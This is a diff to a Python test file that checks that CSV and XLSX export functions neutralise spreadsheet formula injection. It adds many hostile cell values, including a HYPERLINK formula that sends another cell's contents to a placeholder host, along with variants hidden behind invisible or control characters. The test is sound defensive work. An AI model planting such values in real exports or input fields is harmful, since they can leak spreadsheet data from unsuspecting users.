@@ -66,7 +66,12 @@ def test_the_csv_quotes_commas_quotes_and_line_breaks():
     assert body.count("\ufeff".encode()) == 1
 
 
-HOSTILE = ['=HYPERLINK("http://x/?"&A2,"y")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1"]
+HOSTILE = ['=HYPERLINK("http://x/?"&A2,"y")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1",
+           # blanks a spreadsheet skips before the formula: spaces, no-break and other spaces, a byte-order mark,
+           # zero-width and direction marks, vertical tab and form feed, a line separator
+           ' =HYPERLINK("http://x/?"&A2,"y")', "   +1", "\xa0=1", "\ufeff=1", "\u200b@SUM(A1)", "\u3000-1+2",
+           "\u2007\u202f=1", "\u200e=1", "\x0b=1", "\x0c+1", "\u2028=1", "\ufeff ＝1", " \t =1"]
+HARMLESS = ["Hà Nội - Việt Nam", " Hà Nội", "\xa0Trường", "a=b", "email@example.vn", "1-2"]
 
 
 def test_a_formula_like_csv_cell_is_prefixed_with_a_quote_and_numbers_stay_numbers():
@@ -75,6 +80,8 @@ def test_a_formula_like_csv_cell_is_prefixed_with_a_quote_and_numbers_stay_numbe
     assert rows[0] == ["'=header"]
     assert [row[0] for row in rows[1:]] == ["'" + name for name in HOSTILE]
     assert all(row[1:] == ["-1.5", "0", "Hà Nội - Việt Nam"] for row in rows[1:])
+    harmless = list(csv.reader(io.StringIO(builders.csv_bytes(HARMLESS, []).decode("utf-8-sig"), newline="")))
+    assert harmless == [HARMLESS]  # text is left as it is when nothing in it could start a formula
 
 
 def test_a_formula_like_xlsx_cell_is_a_quoted_string_not_a_formula():
@@ -85,7 +92,9 @@ def test_a_formula_like_xlsx_cell_is_a_quoted_string_not_a_formula():
     assert sheet["A1"].value == "=header" and sheet["A1"].data_type == "s" and sheet["A1"].font.bold
     for row, name in enumerate(HOSTILE, start=2):
         cell = sheet.cell(row=row, column=1)
-        assert cell.value == name
-        assert cell.data_type == "s" and cell.quotePrefix
+        assert cell.value == name.replace("\x0b", "").replace("\x0c", "")  # XML holds no such control character
+        assert cell.data_type == "s" and cell.quotePrefix, repr(name)
     assert sheet["B2"].value == -1.5 and sheet["B2"].data_type == "n" and sheet["C2"].value == -3
     assert sheet["D2"].value == "Hà Nội" and not sheet["D2"].quotePrefix
+    harmless = openpyxl.load_workbook(io.BytesIO(builders.xlsx([("x", HARMLESS, [])]))).active
+    assert [cell.value for cell in harmless[1]] == HARMLESS and not any(cell.quotePrefix for cell in harmless[1])
